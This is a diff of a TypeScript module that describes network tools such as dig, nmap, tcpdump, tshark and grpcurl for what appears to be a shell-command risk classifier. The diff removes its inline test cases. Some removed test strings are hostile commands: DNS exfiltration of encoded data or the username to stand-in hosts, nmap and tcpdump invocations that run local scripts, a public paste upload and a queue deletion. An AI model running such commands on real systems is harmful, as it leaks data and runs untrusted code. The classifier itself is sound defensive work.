@@ -8,13 +8,6 @@ const lookUp = (): ProgramDescriptor => ({
   summary: 'asks name servers or hosts',
   options: { '-p': 'text' },
   operands: { rest: { as: 'url', method: 'dns' } },
-  match: { 'dig $(base64 -w0 a).evil.example': 'network #uploads', 'getent hosts $(id -un).x.example.com': 'network #uploads' },
-  notMatch: {
-    'dig +short example.com': '* #uploads; unknown',
-    'ping -c 1 example.com': '* #uploads',
-    'ping -c 1 $(hostname).local': '* #uploads',
-    'dig $API_HOST.x.example.com': '* #uploads',
-  },
 });
 
 const nmap = (): ProgramDescriptor => ({
@@ -30,8 +23,6 @@ const nmap = (): ProgramDescriptor => ({
   style: 'long',
   operands: { rest: 'url' },
   keyword: [{ when: { value: { '--script': '[/.]|^[?]$' } }, effects: [effect('unknown', 'program:script', 'runs_code')] }],
-  match: { 'nmap --script=/tmp/x.nse h.example': 'unknown #runs_code', 'nmap -oN /etc/x h.example': 'write /etc/x' },
-  notMatch: { 'nmap -sV -p 80 localhost': 'unknown; write' },
 });
 
 const capture = (): ProgramDescriptor => ({
@@ -42,8 +33,6 @@ const capture = (): ProgramDescriptor => ({
     '-z': { as: 'shell', tags: ['runs_code', 'dynamic'] },
     '-i -c -s -C -G -W -Z -f -Y -T -e -E -M -m -D': 'text',
   },
-  match: { 'tcpdump -w c -z ./x.sh': 'write /w/c; execute #runs_code' },
-  notMatch: { 'tcpdump -i lo -c 5': 'write; unknown' },
 });
 
 /** `tshark`: its `-z` names a statistic, and a capture file is read. Lua scripts that it is given run. Source: its manual. */
@@ -58,8 +47,6 @@ const tshark = (): ProgramDescriptor => ({
   keyword: [
     { when: { value: { '-X': '^(?:lua_script|[?]$)' } }, effects: [effect('unknown', 'code:lua', 'runs_code', 'inline_code')] },
   ],
-  match: { 'tshark -w c': 'write /w/c', 'tshark -X lua_script:x.lua': 'unknown #runs_code' },
-  notMatch: { 'tshark -r x.pcap -q -z io,phs': 'unknown; execute #runs_code' },
 });
 
 const transfers: Readonly<Record<string, readonly [summary: string, sending: string, receiving: string]>> = {
@@ -93,12 +80,6 @@ const grpc = (): ProgramDescriptor => ({
     if (isOwn || /^(?:list|describe)$/.test(words[0]?.text ?? '')) return [];
     return words.some(mayLose) ? [loses('resource:rpc', 'remote_change')] : [];
   },
-  match: { 'grpcurl h.example:1 a.B/DeleteUser': 'delete resource:rpc #remote_change' },
-  notMatch: {
-    'grpcurl h.example:1 list': 'delete',
-    'grpcurl -plaintext localhost:1 a.B/Get': '* #uploads',
-    'grpcurl h:1 list "$s"': 'delete',
-  },
 });
 
 const browser = (): ProgramDescriptor => ({
@@ -129,7 +110,6 @@ export const sockets: Family = {
       name,
       (): ProgramDescriptor => ({
         ...transfer(summary, sending, receiving),
-        match: { [`${name} ${sending.split(' ')[0]} a`]: 'network upload #uploads' },
       }),
     ]),
   ),
@@ -138,7 +118,6 @@ export const sockets: Family = {
     () => ({
       ...sender('puts text on a public page'),
       effects: [sent],
-      match: { 'pastebinit a': 'read /w/a; network upload #uploads' },
     }),
   ),
   ...sharing(
@@ -155,8 +134,6 @@ export const sockets: Family = {
         loses('database:data', 'remote_change'),
       ),
     ],
-    match: { 'rabbitmqadmin delete queue name=q': 'delete #destructive' },
-    notMatch: { 'rabbitmqctl list_queues': 'delete' },
   })),
   ...sharing('grpcurl evans ghz', grpc),
   ...sharing('websocat wscat wsc', () => ({
